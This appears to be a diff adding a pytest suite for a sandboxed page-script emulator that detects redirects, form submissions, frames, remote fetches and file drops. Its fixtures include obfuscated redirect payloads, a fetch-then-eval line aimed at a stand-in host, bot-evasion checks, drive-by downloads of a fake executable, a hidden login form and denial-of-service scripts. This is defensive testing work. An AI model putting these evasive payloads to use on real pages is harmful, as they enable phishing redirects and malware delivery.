@@ -1,0 +1,156 @@
+"""Pages are played: what their scripts do is told, whatever they are written like, and ends."""
+
+from __future__ import annotations
+
+import base64
+import resource
+
+import pytest
+
+from gateway.extract.effort import Stage
+from gateway.extract.page import played
+from gateway.extract.page.played import Play, play
+
+TO = "https://away.example/x"
+B64 = base64.b64encode(TO.encode()).decode()
+PROGRAM = b"MZ" + bytes(range(200))
+SAVES = f"var b=new Blob([Uint8Array.from(atob('{base64.b64encode(PROGRAM).decode()}'),c=>c.charCodeAt(0))]);"
+
+
+def cpu() -> float:
+    used = resource.getrusage(resource.RUSAGE_SELF)
+    return used.ru_utime + used.ru_stime
+
+
+def on_stage(source: str) -> Play:
+    made = play(source, Stage(1.0, cpu))
+    assert made is not None
+    return made
+
+
+def led(source: str) -> set[tuple[str, str, str]]:
+    return {(act.kind, act.phase, act.detail) for act in on_stage(source).of("goes", "submits", "frame", "asks", "calls")}
+
+
+@pytest.mark.parametrize("source", [
+    f"<script>location=atob('{B64}')</script>", f"<body onload=\"self['loc'+'ation'].href='{TO}'\">",
+    f"<script>const u='{TO}'</script><script>setTimeout(()=>top.location.replace(u),5000)</script>",
+    f"<script type=module>import u from 'data:text/javascript,export default \"{TO}\"'; location.assign(u)</script>",
+    f"<p id=k><!--{B64}--></p><script>open(atob(k.firstChild.data), '_self')</script>",
+    f"<style>:root{{--u:'{TO}'}}</style><script>location=getComputedStyle(document.documentElement).getPropertyValue('--u').slice(1,-1)</script>",
+    f"<script>$(function(){{location='{TO}'}})</script>", f"<img src=x onerror=\"location='{TO}'\">",
+    f"<script>(async()=>{{jQuery(()=>{{navigation.navigate('{TO}')}})}})()</script>",
+    f"<script>new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage=()=>{{document.location='{TO}'}}</script>",
+    f"<a id=a href='{TO}'></a><script>a.dispatchEvent(new MouseEvent('click'))</script>",
+    f"<script>document.write('<scr'+'ipt>location=\"{TO}\"</scr'+'ipt>')</script>",
+    f"<script>document.head.innerHTML+='<meta http-equiv=refresh content=\"0;url={TO}\">'</script>",
+    f"<script>var t=performance.now();while(performance.now()-t<9000);if(!navigator.webdriver)location='{TO}'</script>",
+    f"<script>Array.prototype.push=JSON.stringify=()=>{{throw 1}};location='{TO}'</script>",
+    f"<script>class X extends HTMLElement{{connectedCallback(){{location='{TO}'}}}};customElements.define('x-y',X)</script><x-y></x-y>",
+])
+def test_where_pages_go_unasked(source):
+    assert led(source) == {("goes", "load", TO)}
+
+
+@pytest.mark.parametrize(("source", "expected"), [
+    (f"<script>onmousemove=()=>location='{TO}'</script>", ("goes", "stir", TO)),
+    (f"<a id=b onclick=\"location='{TO}'\">x</a>", ("goes", "click", TO)),
+    (f"<form id=f action='{TO}'></form><script>f.submit()</script>", ("submits", "load", TO)),
+    (f"<script>document.body.innerHTML='<iframe src=\"{TO}\">'</script>", ("frame", "load", TO)),
+    (f"<script>fetch('{TO}').then(r=>r.text()).then(eval)</script>", ("asks", "load", TO)),
+    ("<script>location='search-ms:query=x'</script>", ("calls", "load", "search-ms:query=x")),
+])
+def test_other_ways_out(source, expected):
+    assert led(source) == {expected}
+
+
+@pytest.mark.parametrize("source", [
+    "<script>if(top!==self)top.location.href=self.location.href</script>", "<script>location.replace('html/index.html')</script>",
+    "<script>if(/Android|iPhone/.test(navigator.userAgent))location='https://m.example/'</script>",
+    "<select onchange='if(this.value)location=this.value'><option value=''></select>",
+    "<script>if(location.hash)document.querySelector(location.hash).click()</script>",
+    "<a id=m></a><script>m.href='mailto:a@b.example'</script>",
+])
+def test_pages_that_stay(source):
+    assert led(source) == set()
+
+
+@pytest.mark.parametrize(("script", "phase"), [
+    ("var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='x.exe';a.click()", "load"),
+    ("location=URL.createObjectURL(b)", "load"), ("navigator.msSaveBlob(b,'x.exe')", "load"), ("saveAs(b,'x.exe')", "load"),
+    ("var r=new FileReader();r.onload=()=>open(r.result);r.readAsDataURL(b)", "load"),
+    ("document.body.onkeydown=()=>navigator.msSaveBlob(b,'x.exe')", "stir"),
+    ("document.body.innerHTML='<button id=s>';s.onclick=async()=>{let h=await showSaveFilePicker(),w=await h.createWritable();"
+     "await w.write(b);w.close()}", "click"),
+])
+def test_files_that_pages_write(script, phase):
+    made = on_stage(f"<script>{SAVES}{script}</script>").of("file")
+    assert {(act.phase, act.octets) for act in made} >= {(phase, PROGRAM)}
+
+
+def test_packed_streams_are_unpacked():
+    packed = "H4sIAAAAAAACA8soKSmw0tdPLUvM0UutSMwtyEnVBwDDHhaiEwAAAA=="
+    script = (f"new Response(new Blob([Uint8Array.from(atob('{packed}'),c=>c.charCodeAt(0))]).stream()"
+              ".pipeThrough(new DecompressionStream('gzip'))).text().then(t=>location=t)")
+    assert {kind for kind, _, _ in led(f"<script>{script}</script>")} == {"goes"}
+
+
+def test_what_stands_there_in_the_end():
+    form = base64.b64encode(b"<p>Log in</p><input type=password>").decode()
+    made = on_stage(f"<p>Wait</p><script>document.write(atob('{form}'))</script>")
+    assert made.asks and "Log in" in made.shown and "<script" not in made.markup and made.followed
+    assert not on_stage("<p>Wait</p><script>document.title='x'</script>").asks
+    assert on_stage("<script>document.body.innerHTML='<b>x</b>'</script>").markup
+    assert on_stage("<script>1</script>").markup == ""
+
+
+@pytest.mark.parametrize("script", [
+    "for(;;);", "/(a+)+$/.test('a'.repeat(60)+'b')", "(function f(){setTimeout(f)})()", "(async()=>{for(;;)await 1})()",
+    "a=[];for(;;)a.push(new Uint8Array(1e6))", "while(1)document.write('<p>')", "for(;;)open('https://a.example/'+Math.random())",
+    "for(;;){try{(function f(){f()})()}catch(e){}}", "document.body.innerHTML='<p>'.repeat(1e6)",
+])
+def test_every_play_ends(script):
+    began = cpu()
+    made = on_stage(f"<script>{script}</script>")
+    assert not made.ended and cpu() - began < 3 * played.SECONDS
+
+
+@pytest.mark.parametrize("script", [
+    "new Array(4e9).join()", "Array.prototype.splice.call({length:9e15},0,1)", "'a'.repeat(1e6).indexOf('a'.repeat(5e5)+'b')",
+    "[].concat(new Proxy([],{get:(t,k)=>k==='length'?9e15:t[k]}))", "'a'.repeat(1e6).replaceAll('a'.repeat(5e5)+'b','')",
+])
+def test_loops_of_the_engine_itself_are_not_begun(script):
+    assert on_stage(f"<script>{script}</script>").of("died")
+
+
+def test_a_script_that_dies_is_not_followed():
+    assert not on_stage("<script>null.x</script>").followed
+    assert not on_stage("<script>Promise.resolve().then(()=>null.x)</script>").followed
+    assert on_stage("<script>try{null.x}catch{}</script>").followed
+
+
+def test_the_same_page_plays_the_same():
+    source = "<script>document.write(Math.random(), new Date(), performance.now(), crypto.randomUUID())</script>"
+    assert on_stage(source) == on_stage(source)
+
+
+def test_the_stage_is_paid_for():
+    stage = Stage(played.LEAST_SECONDS / 2)
+    assert play("<script>1</script>", stage) is None
+    assert play("<script>1</script>" + " " * played.LARGEST, Stage()) is None
+    stage = Stage(1.0)
+    assert play("<script>1</script>", stage) is not None and stage.left < 1.0
+
+
+def test_texts_that_the_engine_cannot_be_given():
+    assert led(f"<p>\0\ud800</p><script>location='{TO}'</script>") == {("goes", "load", TO)}
+    assert on_stage("<script>document.title='\\ud800';'\\ud800'</script>").ended
+    assert on_stage("<script>throw '\\ud800\\0'</script>").ended
+
+
+def test_one_browser_is_made_ahead():
+    played.make_ready()
+    played.make_ready()
+    assert len(played._ready) == 1
+    on_stage("<script>1</script>")
+    assert not played._ready
